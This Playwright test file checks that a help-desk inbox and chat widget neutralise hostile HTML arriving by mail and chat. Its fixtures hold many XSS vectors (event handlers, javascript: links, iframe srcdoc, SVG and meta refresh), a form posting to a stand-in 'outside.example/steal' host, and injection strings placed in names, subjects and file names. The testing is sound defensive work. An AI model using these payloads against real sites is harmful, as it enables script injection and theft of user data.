import { expect, type Page, test } from '@playwright/test';
import { answerChat, endChat, goOffDuty, goReady, takeChat } from './chat-agent.ts';
import { sendMail } from './customers-mail.ts';
import { doorOf, openDesk, rowOf } from './desk.ts';
import { beginChat, logOf, panelOf, visitShop } from './shop.ts';

const OUTSIDE = 'https://outside.example';
const BODY = `
  <p onclick="top.ran=1" style="position:fixed;inset:0;z-index:9999;background:url(${OUTSIDE}/bg.png)">Texte hostile visible</p>
  <script>top.ran = 2; parent.ran = 2; window.ran = 2</script>
  <img src="cid:%zz"><img src="x" onerror="top.ran=3"><img src="${OUTSIDE}/pixel.png" width="1">
  <svg onload="top.ran=4"><a xlink:href="javascript:top.ran=5"><text>svg</text></a></svg>
  <iframe srcdoc="<script>top.ran=6</script>"></iframe><object data="javascript:top.ran=7"></object>
  <a href="javascript:top.ran=8">lien piégé</a> <a href="https://exemple.fr/ok">lien sain</a>
  <style>@import url(${OUTSIDE}/style.css); * { color: red }</style><link rel="stylesheet" href="${OUTSIDE}/link.css">
  <form action="${OUTSIDE}/steal"><input name="p" autofocus onfocus="top.ran=9"><button>Envoyer</button></form>
  <meta http-equiv="refresh" content="0;url=${OUTSIDE}/refresh"><base href="${OUTSIDE}/">
  <video src="${OUTSIDE}/v.mp4" autoplay></video><math><mi xlink:href="javascript:top.ran=10">m</mi></math>
  <table background="${OUTSIDE}/table.png"><tr><td>cellule</td></tr></table>`;

test('an attack by mail runs nothing, loads nothing, and covers nothing', async ({ browser }) => {
  const desk = await openDesk(browser, 'administrator');
  const outside: string[] = [];
  await desk.route(/outside\.example/, (route) => {
    outside.push(route.request().url());
    return route.abort();
  });
  const dialogs: string[] = [];
  desk.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await sendMail({
    from: { name: '<img src=x onerror=top.ran=11>', address: 'mallory@exemple.fr' },
    to: await doorOf(desk, 'Service client'),
    subject: '"><script>top.ran=12</script>hostile',
    html: BODY,
    attachments: [
      { filename: '"><img src=x onerror=top.ran=13>.html', content: '<script>top.ran=14</script>' },
      { filename: 'logo.png', content: 'no picture', cid: 'logo' },
    ],
  });
  await desk.goto('/inbox/unassigned?sort=newest');
  await rowOf(desk, 'hostile').click();
  const frame = desk.frameLocator('iframe[title="Content of the mail"]').last();
  await expect(frame.getByText('Texte hostile visible')).toBeVisible();
  await frame.getByText('Texte hostile visible').click();
  await frame.getByText('Texte hostile visible').hover();
  await frame
    .getByText('lien piégé')
    .click({ timeout: 2000 })
    .catch(() => undefined);
  expect(await desk.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(outside).toEqual([]);

  // Nothing of the mail lies over the desk's own controls.
  await desk.getByRole('button', { name: 'Resolve' }).first().click({ trial: true });
  await desk.getByRole('link', { name: /^To do/ }).click({ trial: true });

  await desk.getByRole('button', { name: 'Show images' }).click();
  await expect.poll(() => outside.some((url) => url.endsWith('pixel.png'))).toBe(true);
  expect(outside.filter((url) => !/\.png$/.test(url))).toEqual([]);
  expect(await desk.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();

  // A file is handed out as a download, never shown as a page of ours.
  const href = await desk.locator('a[href^="/api/files/"]').first().getAttribute('href');
  const file = await desk.request.get(href!);
  expect(file.headers()['content-disposition']).toMatch(/^attachment/);
  expect(file.headers()['x-content-type-options']).toBe('nosniff');
  await desk.context().close();
});

const ATTACK = `<img src=x onerror="top.ran=1"><a href="javascript:top.ran=2" onmouseover="top.ran=3">lien</a>`;
/** Its words are read as words: no element of it stands in the page, and nothing of it ran. */
async function expectHarmless(page: Page): Promise<void> {
  await expect(page.locator('img[src=x], [onmouseover], a[href^="javascript:"]')).toHaveCount(0);
  expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();
}

test('an attack by chat is only words, at the desk and in the widget', async ({ browser }) => {
  const desk = await openDesk(browser, 'agent');
  await goReady(desk);
  const { context, page, complaints } = await visitShop(browser);
  await page.evaluate((title) => (document.title = title), ATTACK);
  await beginChat(page, ATTACK, { name: ATTACK });
  const conversationId = await takeChat(desk, 'top.ran=1');
  await answerChat(desk, conversationId, ATTACK.replaceAll('<', '&lt;'));
  await panelOf(page)
    .locator('input[type=file]')
    .setInputFiles({ name: `${ATTACK.replaceAll('/', '')}.html`, mimeType: 'text/html', buffer: Buffer.from(ATTACK) });
  await expect(logOf(page).locator('.mine')).toHaveCount(2);
  await expect(logOf(page).locator('.theirs')).toContainText(ATTACK);
  await logOf(page).locator('.mine').first().hover();
  await expectHarmless(page);
  expect(complaints).toEqual([]);

  await desk.goto(`/chats/${conversationId}`);
  const dialogue = desk.getByRole('region', { name: `Chat with ${ATTACK}` });
  await expect(dialogue.getByRole('log').getByRole('article')).toHaveCount(3);
  await dialogue.getByRole('log').getByText('top.ran=2').first().hover();
  await expect(desk.getByRole('complementary', { name: 'Customer' })).toContainText('onmouseover');
  await expectHarmless(desk);
  // A name without an end does not push the dialogues from the screen, on no card.
  await desk.request.post(`/api/conversations/${conversationId}/chat/end`, { data: {} });
  await expect(desk.getByText('How it ended').first()).toBeVisible();
  expect((await dialogue.boundingBox())!.width).toBeGreaterThan(600);
  await endChat(desk, conversationId);
  await goOffDuty(desk);
  await context.close();
  await desk.context().close();
});
